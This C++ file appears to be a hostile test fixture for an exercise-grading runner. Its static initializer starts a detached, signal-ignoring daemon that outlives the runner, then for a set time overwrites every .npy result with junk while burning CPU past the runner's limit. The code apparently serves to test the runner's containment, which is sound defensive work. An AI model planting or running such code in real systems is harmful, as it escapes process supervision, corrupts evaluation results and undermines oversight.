// rewrites_results, rewrites_results_burning: after 03's solution, a daemon started by a static
// initializer (fork, setsid, fork; every signal ignored) that waits for the runner's exit (the
// pipe it shares with it closing, then, in the first, the runner's pid vanishing) and then
// rewrites every result of the exercise's runs with bytes that are no tensor, in a tight loop:
// 10 s, or 60 s of burning CPU past the runner's own CPU limit. Compiled in one unit with the
// other files, it starts in every exercise's program.

// ---- the attack: a daemon that rewrites this run's results once the runner has exited ----
#include <csignal>
#include <ctime>
#include <fcntl.h>
#include <filesystem>
#include <sys/wait.h>
#include <unistd.h>

namespace hostile_MAKE_CLASS_EX_rewrites {

// Every .npy under the exercise's folder (WORK/NN: results-SET beside the cwd, cwd-results-SET).
void rewrite_results(const std::filesystem::path& exercise) {
    std::error_code error;
    for (std::filesystem::recursive_directory_iterator it(exercise, error), end;
         !error && it != end; it.increment(error)) {
        if (it->path().extension() != ".npy") continue;
        const int fd = open(it->path().c_str(), O_WRONLY | O_TRUNC);
        if (fd < 0) continue;
        [[maybe_unused]] const ssize_t written = write(fd, "garbage", 7);
        close(fd);
    }
}

int start_daemon() {
    std::error_code error;
    const std::filesystem::path exercise = std::filesystem::current_path(error).parent_path();
    int exited[2];
    if (error || pipe(exited) != 0) return 0;
    const pid_t runner = getpid();
    const pid_t child = fork();
    if (child != 0) {  // the runner, its fork done or refused: on to main()
        close(exited[0]);
        if (child > 0)
            waitpid(child, nullptr, 0);
        else
            close(exited[1]);
        return 0;
    }
    setsid();
    if (fork() != 0) _exit(0);
    for (int sig = 1; sig < NSIG; ++sig) std::signal(sig, SIG_IGN);
    close(exited[1]);
    char byte;
    while (read(exited[0], &byte, 1) != 0) {  // the pipe closes when the runner exits
    }
    while (MAKE_CLASS_WAIT_FOR_PID && kill(runner, 0) == 0) {  // ... then its pid vanishes
    }
    const std::time_t start = std::time(nullptr);
    while (std::time(nullptr) - start < MAKE_CLASS_SECONDS) rewrite_results(exercise);
    _exit(0);
}

[[maybe_unused]] const int daemon_started = start_daemon();

}  // namespace hostile_MAKE_CLASS_EX_rewrites
